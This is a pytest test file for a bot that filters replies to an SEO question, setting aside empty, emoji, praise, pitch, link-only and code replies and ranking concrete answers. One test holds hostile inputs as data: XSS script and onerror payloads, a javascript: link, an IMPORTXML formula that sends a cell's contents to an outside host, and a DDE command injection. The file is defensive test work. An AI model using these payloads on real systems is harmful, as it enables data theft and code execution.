"""Each rule with replies that it is for and replies that only look so."""

import pytest

from bot.filter import Candidate, FilterVerdict, JudgedQuestion, Judgement, judge

QUESTION = JudgedQuestion("What did you stop doing in SEO, and what happened?")


def judge_one(*texts: str, asked: JudgedQuestion = QUESTION) -> Judgement:
    return judge(asked, [Candidate("r1", texts, "ada")])[0]


def rules_of(*texts: str, asked: JudgedQuestion = QUESTION) -> set[str]:
    return {reason.rule for reason in judge_one(*texts, asked=asked).reasons}


@pytest.mark.parametrize(
    "text",
    [
        "I stopped disavowing in 2019; nothing moved.",
        "We dropped AMP last March. Traffic stayed flat, revenue rose 12%.",
        "Guest posts. We stopped in 2021 because nobody read them.",
        "Ich habe 2020 aufgehört, Links zu kaufen. Passiert ist nichts.",
    ],
)
def test_a_short_but_excellent_answer_is_kept(text):
    judgement = judge_one(text)
    assert judgement.verdict is not FilterVerdict.ASIDE
    assert judgement.score > judge_one("I guess some of it works in some cases").score


@pytest.mark.parametrize(
    "text",
    [
        "Nous avons cessé d'acheter des liens il y a trois ans et rien n'a changé pour nos clients.",
        "Мы перестали покупать ссылки три года назад, и ничего не изменилось.",
        "三年前にリンクの購入をやめましたが、順位は変わりませんでした。",
        "توقفنا عن شراء الروابط قبل ثلاث سنوات ولم يتغير شيء.",
        "हमने तीन साल पहले लिंक खरीदना बंद कर दिया और कुछ नहीं बदला।",
    ],
)
def test_another_language_is_no_reason_to_set_a_reply_aside(text):
    assert judge_one(text).verdict is not FilterVerdict.ASIDE


@pytest.mark.parametrize("text", ["", "   \n", "...", "?", "\u200b\u2060", "@ask.example", "<@123456>", "ㅤ"])
def test_a_reply_without_words_is_empty(text):
    judgement = judge_one(text)
    assert judgement.verdict is FilterVerdict.ASIDE
    assert judgement.reasons[0].rule == "empty"


def test_a_reply_without_parts_is_empty():
    assert rules_of() == {"empty", "base"}


@pytest.mark.parametrize("text", ["🔥🔥🔥", "👍🏽", "👩‍💻 ❤️", "<:party:123456789012345678>", ":thumbsup:", "@ask 😂"])
def test_a_reply_of_emoji_is_emoji_only(text):
    judgement = judge_one(text)
    assert judgement.verdict is FilterVerdict.ASIDE
    assert judgement.reasons[0].rule == "emoji_only"


def test_emoji_beside_words_do_no_harm():
    assert not rules_of("🔥 We dropped AMP in 2021 and nothing happened 🔥") & {"emoji_only", "empty"}


@pytest.mark.parametrize(
    "text", ["+1", "^", "^^ this", "This.", "Same here!", "agreed", "100% agree with this", "+1 👆", "Ditto"]
)
def test_a_bare_me_too_is_set_aside(text):
    judgement = judge_one(text)
    assert judgement.verdict is FilterVerdict.ASIDE
    assert "plus_one" in {reason.rule for reason in judgement.reasons}


@pytest.mark.parametrize(
    "text", ["Not this.", "Same agency, same year: we lost a third of our links.", "I agree, but only for shops"]
)
def test_agreement_with_something_to_say_is_no_bare_me_too(text):
    assert "plus_one" not in rules_of(text)


@pytest.mark.parametrize(
    "text",
    [
        "Great question!",
        "love this so much 😍",
        "Thanks for sharing",
        "What a great thread",
        "𝗚𝗿𝗲𝗮𝘁 question",
        "Tolle Frage!",
    ],
)
def test_bare_praise_is_set_aside(text):
    judgement = judge_one(text)
    assert judgement.verdict is FilterVerdict.ASIDE
    assert judgement.reasons[0].rule == "praise_only"


@pytest.mark.parametrize("text", ["." * 45 + " सोनम दि नेपाली बाबु", "ですね" * 39 + "犬", "草" * 119 + "犬"])
def test_a_row_of_pieces_that_ends_in_another_word_takes_no_longer_than_any_reply(text):
    """As one expression these are tried in as many ways as they can be cut, and no judging ever ends."""
    assert not {"praise_only", "plus_one"} & set(rules_of(text))


@pytest.mark.parametrize(
    "text", ["ですね草草草!!", "いいねいいね、最高ですね", "ありがとうございましたwwwww", "大家好问题", "5555好棒"]
)
def test_praise_is_found_however_its_pieces_are_cut(text):
    assert "praise_only" in rules_of(text)


@pytest.mark.parametrize("text", ["Great question. We stopped buying links in 2019.", "Good titles beat long titles"])
def test_praise_before_an_answer_is_no_bare_praise(text):
    assert "praise_only" not in rules_of(text)


@pytest.mark.parametrize(
    "text", ["What do you think?", "Why do you ask? Is it for a client?", "Have you tried it yourself?"]
)
def test_a_question_thrown_back_is_set_aside(text):
    judgement = judge_one(text)
    assert judgement.verdict is FilterVerdict.ASIDE
    assert judgement.reasons[0].rule == "question_back"


@pytest.mark.parametrize("text", ["Who needs AMP? We dropped it.", "We dropped AMP. Why keep it?"])
def test_a_question_beside_an_answer_is_not_thrown_back(text):
    assert "question_back" not in rules_of(text)


@pytest.mark.parametrize(
    "text", ["https://example.com/post", "see here: www.example.org", "check this out example.com/a?b=c"]
)
def test_a_bare_link_is_set_aside(text):
    judgement = judge_one(text)
    assert judgement.verdict is FilterVerdict.ASIDE
    assert "link_only" in {reason.rule for reason in judgement.reasons}


def test_a_link_to_a_source_beside_an_answer_is_fine():
    judgement = judge_one("We stopped disavowing in 2019, nothing moved. Numbers: https://example.com/numbers")
    assert judgement.verdict is not FilterVerdict.ASIDE
    assert "rank_source" in {reason.rule for reason in judgement.reasons if reason.weight > 0}


@pytest.mark.parametrize(
    "text",
    [
        "DM me for details, we fixed this for 200 clients in 2023 because we know how.",
        "My agency can help you with that.",
        "Book a free call with us today!",
        "Check out my new SEO course, link in bio",
        "We wrote about it in 2024: https://example.com/a?utm_source=bsky",
        "Use my promo code SEO20 to get started",
        "d\u200bm m\u200be, I got results in 3 days",
    ],
)
def test_a_pitch_is_set_aside(text):
    assert rules_of(text) & {"self_promotion", "sale"}


@pytest.mark.parametrize(
    "text",
    [
        "At my agency we stopped buying links in 2019.",
        "My course taught me one thing: nobody reads meta keywords.",
        "Friends call me stubborn, but I kept the old titles for two years.",
        "We provide what readers need.",
    ],
)
def test_naming_the_own_work_is_no_pitch(text):
    assert "self_promotion" not in rules_of(text)


def test_a_copy_of_the_question_is_set_aside():
    judgement = judge_one("What did you stop doing in SEO and what happened")
    assert judgement.verdict is FilterVerdict.ASIDE
    assert "copy_of_question" in {reason.rule for reason in judgement.reasons}


def test_a_quoted_question_with_an_answer_is_no_copy():
    text = (
        "> What did you stop doing in SEO, and what happened?\nWe stopped buying links and nobody noticed for a year."
    )
    assert "copy_of_question" not in rules_of(text)


def test_naming_an_option_is_no_copy_of_the_question():
    assert "copy_of_question" not in rules_of(
        "Tabs", asked=JudgedQuestion("Tabs or spaces, and why?", ("Tabs", "Spaces"))
    )


@pytest.mark.parametrize("text", ["It depends.", "idk", "No idea", "Good luck"])
def test_a_bare_hedge_is_vague(text):
    """It ranks low; nothing is proven against it but where it is a wish and no more."""
    assert judge_one(text).verdict is not FilterVerdict.KEEP


@pytest.mark.parametrize("text", ["lol we all did that", "Hahaha, same agency here", "Thanks, we stopped AMP"])
def test_laughter_and_thanks_weigh_a_little(text):
    """Beside something said they prove nothing."""
    assert judge_one(text).verdict is not FilterVerdict.ASIDE


def test_laughter_sets_no_answer_aside():
    assert judge_one("Haha, we dropped AMP in 2021 and nothing moved.").verdict is not FilterVerdict.ASIDE


def test_a_short_answer_of_a_word_is_not_set_aside_for_being_short():
    assert judge_one("Titles").verdict is FilterVerdict.MAYBE


MACHINE = (
    "It's important to note that there are several factors. Additionally, search plays a crucial role in today's digital"
    " landscape. Ultimately, it is worth noting that results can vary depending on context."
)


def test_machine_phrasing_is_a_hint_with_its_evidence():
    reasons = [reason for reason in judge_one(MACHINE).reasons if reason.rule == "machine_phrasing"]
    assert "in today's digital landscape" in reasons[0].detail


def test_machine_phrasing_alone_never_sets_a_reply_aside():
    assert judge_one(MACHINE).verdict is not FilterVerdict.ASIDE


def test_one_polished_phrase_is_no_hint():
    assert "machine_phrasing" not in rules_of("Additionally, we dropped AMP in 2021.")


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("We stopped it", "rank_experience"),
        ("In my experience titles matter", "rank_experience"),
        ("Titles rule because people read them", "rank_reason"),
        ("It cost 12%", "rank_figures"),
        ("Es waren 12 Prozent", "rank_figures"),
        ("It took three years", "rank_figures"),
        ("Titles are read by people who pay for what they found", "rank_length"),
        ("SEO is what we gave up", "rank_topic"),
    ],
)
def test_what_speaks_for_a_reply_is_named(text, rule):
    assert rule in rules_of(text)


def test_a_span_points_into_the_part_as_it_was_given():
    parts = ("First\u200b part ﬁne", "d\u200bm me \u201cnow\u201d")
    reason = next(reason for reason in judge_one(*parts).reasons if reason.rule == "sale")
    assert parts[reason.span.part][reason.span.start : reason.span.end] == "d\u200bm me"


def test_an_answer_in_parts_is_judged_as_one():
    whole = judge_one("Great question!", "We stopped buying links in 2019", "because nobody clicked them.")
    assert whole.verdict is not FilterVerdict.ASIDE
    assert {"rank_experience", "rank_figures", "rank_reason"} <= {reason.rule for reason in whole.reasons}


@pytest.mark.parametrize(
    "text",
    [
        "Stopped writing for robots, started writing for plumbers.",
        "If the client cannot name the goal, no report.",
        "Nine dashboards became one. Nobody opened the other eight.",
        "A ranking report is a horoscope with charts.",
        "Twice, in 2016. Both were my fault.",
        "Popups. Conversions dipped for a week, then recovered.",
    ],
)
def test_few_words_that_say_something_are_kept(text):
    judgement = judge_one(text)
    assert judgement.verdict is not FilterVerdict.ASIDE
    assert judgement.score > judge_one("It depends on so many things.").score


@pytest.mark.parametrize(
    "text",
    [
        "It depends on so many things.",
        "I guess some of it works in some cases",
        "Quality over everything.",
        "Hard to say, there are different opinions about it",
        "It is all about the user.",
        "Yes and no, I suppose.",
    ],
)
def test_few_words_that_say_little_are_not_kept(text):
    assert judge_one(text).verdict is not FilterVerdict.KEEP


def test_who_hedges_first_and_then_tells_is_kept():
    text = "It depends. For shops we stopped writing category texts in 2022, and the sales stayed where they were for a year."
    assert judge_one(text).score > judge_one("It depends.").score


@pytest.mark.parametrize(
    "text",
    [
        "Bookmarked, thanks for asking!",
        "Ooh, saving this one for later",
        "What an important topic, following",
        "So many great answers in here, thank you all",
        "Such a good poll, looking forward to this thread",
    ],
)
def test_a_nod_to_the_thread_is_not_kept(text):
    assert judge_one(text).verdict is FilterVerdict.ASIDE


GENERAL = (
    "Sustainable success comes from a balanced and holistic approach that puts people first. Trust, relevance and "
    "consistency are the pillars of every great brand, and quality content always wins in the long run."
)

CONCRETE = (
    "We stopped buying links in 2021 because 3 of 4 came from dead sites. Traffic fell by 5 percent for a month, then "
    "it came back, and we have saved 400 dollars a month since. You can check your own links in the console for free."
)


def test_a_long_reply_without_any_particular_is_general_and_not_kept():
    judgement = judge_one(GENERAL)
    assert {"rank_no_figures", "rank_no_experience"} <= {reason.rule for reason in judgement.reasons}
    assert judgement.score < judge_one(CONCRETE).score


def test_a_long_reply_with_a_deed_in_it_is_not_general():
    assert "rank_experience" in rules_of(f"{GENERAL} We learned it when we deleted half of the blog.")


@pytest.mark.parametrize(
    "text",
    [
        "Does anybody know a good plumber in Hamburg? Ours is on holiday.",
        "Can someone recommend a cheap host? Mine is slow.",
        "Is it still worth buying links? I am new to this.",
    ],
)
def test_a_reply_that_asks_for_something_is_not_kept(text):
    """Who asks something and tells something has said something: it ranks low."""
    assert judge_one(text).verdict is not FilterVerdict.ASIDE


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="steal()"> great site',
        '=IMPORTXML("https://example.com/x?"&A1, "//a")',
        "[click](javascript:alert(1))",
        "@cmd|' /C calc'!A0",
    ],
)
def test_code_instead_of_an_answer_is_set_aside(text):
    judgement = judge_one(text)
    assert judgement.verdict is FilterVerdict.ASIDE
    assert "code" in {reason.rule for reason in judgement.reasons}


@pytest.mark.parametrize(
    "text",
    [
        "We stopped using <b>bold</b> in titles because nobody clicked it.",
        "=SUM(links) was the only column I kept. I deleted forty others in 2021.",
        "We count on load time: under two seconds since the move.",
    ],
)
def test_writing_about_code_is_no_code(text):
    assert "code" not in rules_of(text)


@pytest.mark.parametrize(
    "text",
    [
        "We created SiteGuard for exactly this. Get your free audit of 20 pages, DM me: https://siteguard.example",
        "Our studio offers this for 300 a month. Hire us! Book a demo today.",
        "My Inbox Machine brought 90 people 4,000 leads in March. Grab yours before the price doubles: https://x.example",
    ],
)
def test_several_pitches_outweigh_what_sounds_specific(text):
    assert judge_one(text).verdict is FilterVerdict.ASIDE


def test_an_offer_to_say_more_after_an_answer_does_not_sink_it():
    text = "We dropped the rank tracker in May 2023 because its numbers were fiction, and saved 400 a month. Happy to chat!"
    assert judge_one(text).verdict is not FilterVerdict.ASIDE


def test_an_offer_of_an_interview_instead_of_an_answer_is_set_aside():
    """No longer: it stays general, which proves nothing."""
    text = (
        "As a growth expert I believe that trust and relevance are the core of every lasting strategy for modern brands. "
        "I would be glad to elaborate in an interview."
    )
    assert judge_one(text).verdict is not FilterVerdict.ASIDE


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("Yes, we never bought one.", "rank_stand"),
        ("You should ask for the logs first", "rank_advice"),
        ("I'd suggest to fix the titles", "rank_advice"),
        ("Traffic doubled", "rank_experience"),
        ("Stopped all of it", "rank_experience"),
    ],
)
def test_what_makes_an_answer_useful_is_named(text, rule):
    assert rule in rules_of(text)
